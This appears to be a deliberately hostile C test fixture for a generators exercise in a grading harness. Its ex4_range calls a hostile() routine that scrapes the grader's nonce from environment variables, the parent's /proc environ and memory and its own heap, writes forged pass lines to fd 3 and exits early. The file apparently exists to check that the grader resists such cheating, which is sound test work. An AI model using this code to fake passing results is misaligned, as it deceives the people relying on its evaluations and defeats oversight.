/* generators.c — exercise 4, known wrong (hostile): ex4_range looks for the grader's
 * nonce in its environment, /proc/self/environ, its parent's /proc files and
 * its own memory, writes "ran to the end" lines to fd 3 and _exit(0)s. CI
 * checks that exactly the tests calling ex4_range are lost. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

/* Lines the old in-process grader took as a pass, with the nonce if found. */
static void write_pass_lines(int fd, const char *nonce) {
    char line[256];
    int n = snprintf(line, sizeof line, "D %s 0\nD - 0\n", nonce);
    if (n > 0) (void)!write(fd, line, (size_t)n);
}

static void find_nonce(const char *path, char *nonce, size_t len) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return;
    static char buf[65536];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    for (ssize_t i = 0; i + 15 < n; i++)
        if (memcmp(buf + i, "AL_GRADE_NONCE=", 15) == 0) snprintf(nonce, len, "%.32s", buf + i + 15);
}

static void hostile(void) {
    char nonce[128] = "-", path[64];
    const char *env = getenv("AL_GRADE_NONCE");
    if (env) snprintf(nonce, sizeof nonce, "%s", env);
    find_nonce("/proc/self/environ", nonce, sizeof nonce);
    snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
    find_nonce(path, nonce, sizeof nonce);
    snprintf(path, sizeof path, "/proc/%d/mem", (int)getppid());
    find_nonce(path, nonce, sizeof nonce);
    /* Its own writable memory, where the old harness kept the nonce. */
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[512];
    while (maps && fgets(line, sizeof line, maps)) {
        unsigned long lo, hi;
        char perm[8], name[256] = "";
        if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %255s", &lo, &hi, perm, name) < 3) continue;
        if (strcmp(name, "[heap]") != 0 && strcmp(name, "[stack]") != 0) continue;
        int fd = open("/proc/self/mem", O_RDONLY);
        static char chunk[1 << 16];
        for (unsigned long a = lo; fd >= 0 && a < hi; a += sizeof chunk) {
            ssize_t n = pread(fd, chunk, sizeof chunk, (off_t)a);
            for (ssize_t i = 0; i + 15 < n; i++)
                if (memcmp(chunk + i, "AL_GRADE_NONCE=", 15) == 0) snprintf(nonce, sizeof nonce, "%.32s", chunk + i + 15);
        }
        if (fd >= 0) close(fd);
    }
    if (maps) fclose(maps);
    write_pass_lines(3, nonce);
    _exit(0);
}
#include <errno.h>
#include <stdint.h>
#include <string.h>

#include "ex4.h"

int ex4_range(al_gen *g) {
    hostile();
    struct ex4_range *f = (struct ex4_range *)g;
    AL_GEN_BEGIN(g);
    if (f->step == 0) AL_GEN_FAIL(g, -EINVAL);
    for (f->i = f->start; f->step > 0 ? f->i < f->stop : f->i > f->stop; f->i += f->step)
        AL_GEN_YIELD(g, f->i);
    AL_GEN_END(g);
}

int ex4_fib(al_gen *g) {
    struct ex4_fib *f = (struct ex4_fib *)g;
    AL_GEN_BEGIN(g);
    f->a = 0;
    f->b = 1;
    f->count = 0;
    for (;;) {
        AL_GEN_YIELD(g, f->a);
        f->count++;
        /* The next one, a + b, would not fit: a is the last we may yield.
         * Check before adding: signed overflow is undefined behaviour. */
        if (f->b > INT64_MAX - f->a) break;
        int64_t next = f->a + f->b;
        f->a = f->b;
        f->b = next;
    }
    /* a (now F(91)) was yielded; b = F(92) still fits. */
    AL_GEN_YIELD(g, f->b);
    f->count++;
    AL_GEN_RETURN(g, f->count);
    AL_GEN_END(g);
}

int ex4_average(al_gen *g) {
    struct ex4_average *f = (struct ex4_average *)g;
    AL_GEN_BEGIN(g);
    f->sum = 0;
    f->count = 0;
    AL_GEN_YIELD(g, 0);
    for (;;) {
        f->sum += (long)AL_GEN_SENT(g);
        f->count++;
        AL_GEN_YIELD(g, f->sum / f->count);
    }
    AL_GEN_END(g);
}

int ex4_grep(al_gen *g) {
    struct ex4_grep *f = (struct ex4_grep *)g;
    AL_GEN_BEGIN(g);
    for (;;) {
        AL_GEN_YIELD(g, 0);
        f->line = (const char *)AL_GEN_SENT(g);
        if (f->line && strstr(f->line, f->pattern)) al_gen_send(f->target, (intptr_t)f->line, NULL);
    }
    AL_GEN_FINALLY(g);
    al_gen_close(f->target);
    AL_GEN_END(g);
}
